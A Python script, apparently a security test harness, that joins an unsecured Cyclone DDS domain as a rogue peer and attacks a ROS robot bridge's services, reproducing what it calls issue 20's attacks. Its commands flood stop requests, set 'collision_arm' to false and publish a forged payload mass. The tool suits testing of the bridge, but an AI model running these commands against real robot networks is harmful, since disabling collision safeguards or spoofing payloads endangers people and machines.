#!/usr/bin/env python3
"""A rogue DDS participant on the bridge's domain: Eclipse Cyclone DDS (the `cyclonedds` package,
no DDS Security, no ROS) calling the bridge's services and publishing `apply_payload` as any node
on the network could (issue 20's attacks).

It speaks the RPC-over-DDS "enhanced" mapping as a plain DDS writer: the request alone on
`rq/<ns>/<service>Request` (no related-sample-identity: the server answers to the sample's own
identity), the replies read from `rr/<ns>/<service>Reply`.

Prints one JSON object per line on stdout: {"ready": true, "participant": GUID} once its
entities exist, {"matched": n} once the bridge's reader matched (with --wait-match), then
{"replies": n, "messages": [...]} when no reply came for --quiet seconds (or at --timeout).

    rogue_peer.py trigger --service stop --count 3000 --timeout 60
    rogue_peer.py setbool --service collision_arm --data false
    rogue_peer.py payload --mass 3.9 --transient-local --hold 30
"""

import argparse
import json
import sys
import time
from dataclasses import dataclass

from cyclonedds.core import Policy, Qos
from cyclonedds.domain import DomainParticipant
from cyclonedds.idl import IdlStruct
from cyclonedds.idl.types import float64, uint8
import cyclonedds.idl.annotations as annotate
from cyclonedds.pub import DataWriter
from cyclonedds.sub import DataReader
from cyclonedds.topic import Topic
from cyclonedds.util import duration


@dataclass
@annotate.final
class TriggerRequest(IdlStruct, typename="std_srvs::srv::dds_::Trigger_Request_"):
    structure_needs_at_least_one_member: uint8


@dataclass
@annotate.final
class TriggerResponse(IdlStruct, typename="std_srvs::srv::dds_::Trigger_Response_"):
    success: bool
    message: str


@dataclass
@annotate.final
class SetBoolRequest(IdlStruct, typename="std_srvs::srv::dds_::SetBool_Request_"):
    data: bool


@dataclass
@annotate.final
class SetBoolResponse(IdlStruct, typename="std_srvs::srv::dds_::SetBool_Response_"):
    success: bool
    message: str


@dataclass
@annotate.final
class Vector3(IdlStruct, typename="geometry_msgs::msg::dds_::Vector3_"):
    x: float64
    y: float64
    z: float64


@dataclass
@annotate.final
class Inertia(IdlStruct, typename="geometry_msgs::msg::dds_::Inertia_"):
    m: float64
    com: Vector3
    ixx: float64
    ixy: float64
    ixz: float64
    iyy: float64
    iyz: float64
    izz: float64


def out(obj):
    print(json.dumps(obj), flush=True)


def participant_guid(dp):
    h = dp.guid.hex
    return ".".join(h[i : i + 8] for i in range(0, 32, 8))


def qos(args, depth_all=True):
    durability = Policy.Durability.TransientLocal if args.transient_local else Policy.Durability.Volatile
    return Qos(
        Policy.Reliability.Reliable(duration(seconds=10)),
        durability,
        Policy.History.KeepAll if depth_all else Policy.History.KeepLast(10),
        Policy.ResourceLimits(max_samples=100000, max_instances=1, max_samples_per_instance=100000),
    )


def wait_match(writer, timeout_s):
    deadline = time.monotonic() + timeout_s
    while time.monotonic() < deadline:
        n = writer.get_publication_matched_status().current_count
        if n > 0:
            return n
        time.sleep(0.05)
    return 0


def main():
    p = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    p.add_argument("kind", choices=["trigger", "setbool", "payload"])
    p.add_argument("--service", default="stop", help="service or topic name in the namespace")
    p.add_argument("--namespace", default="lwr")
    p.add_argument("--domain", type=int, default=0)
    p.add_argument("--count", type=int, default=1, help="requests to send at once")
    p.add_argument("--data", default="true", choices=["true", "false"], help="SetBool data")
    p.add_argument("--mass", type=float, default=1.0)
    p.add_argument("--transient-local", action="store_true", help="transient-local writer")
    p.add_argument("--wait-match", type=float, default=30.0, help="s to wait for the bridge's reader (0: write at once)")
    p.add_argument("--hold", type=float, default=0.0, help="s to keep the writer alive after writing")
    p.add_argument("--quiet", type=float, default=5.0, help="s without a reply that end the count")
    p.add_argument("--timeout", type=float, default=60.0)
    args = p.parse_args()

    dp = DomainParticipant(args.domain)
    ns = args.namespace.strip("/")
    if args.kind == "payload":
        topic = Topic(dp, f"rt/{ns}/{args.service}", Inertia)
        writer = DataWriter(dp, topic, qos=qos(args))
        out({"ready": True, "participant": participant_guid(dp)})
        if args.wait_match > 0:
            out({"matched": wait_match(writer, args.wait_match)})
        z = Vector3(0.0, 0.0, 0.12)
        for _ in range(args.count):
            writer.write(Inertia(args.mass, z, 0.0, 0.0, 0.0, 0.0, 0.0, 0.0))
        out({"written": args.count})
        if args.hold > 0:
            end = time.monotonic() + args.hold
            while time.monotonic() < end:
                out({"matched": writer.get_publication_matched_status().current_count})
                time.sleep(0.5)
        return

    req_t, rep_t = (TriggerRequest, TriggerResponse) if args.kind == "trigger" else (SetBoolRequest, SetBoolResponse)
    rq = Topic(dp, f"rq/{ns}/{args.service}Request", req_t)
    rr = Topic(dp, f"rr/{ns}/{args.service}Reply", rep_t)
    reader = DataReader(dp, rr, qos=qos(argparse.Namespace(transient_local=False)))
    writer = DataWriter(dp, rq, qos=qos(args))
    out({"ready": True, "participant": participant_guid(dp)})
    if args.wait_match > 0:
        out({"matched": wait_match(writer, args.wait_match)})
    request = TriggerRequest(0) if args.kind == "trigger" else SetBoolRequest(args.data == "true")
    for _ in range(args.count):
        writer.write(request)
    out({"written": args.count})
    replies = 0
    messages = []
    start = time.monotonic()
    last = start
    while True:
        now = time.monotonic()
        if now - start > args.timeout or now - last > args.quiet:
            break
        got = reader.take(N=1000)
        if got:
            replies += len(got)
            last = now
            for r in got:
                if len(messages) < 5:
                    messages.append({"success": r.success, "message": r.message})
        else:
            time.sleep(0.02)
    out({"replies": replies, "messages": messages})
    if args.hold > 0:
        time.sleep(args.hold)


if __name__ == "__main__":
    try:
        main()
    except KeyboardInterrupt:
        sys.exit(130)
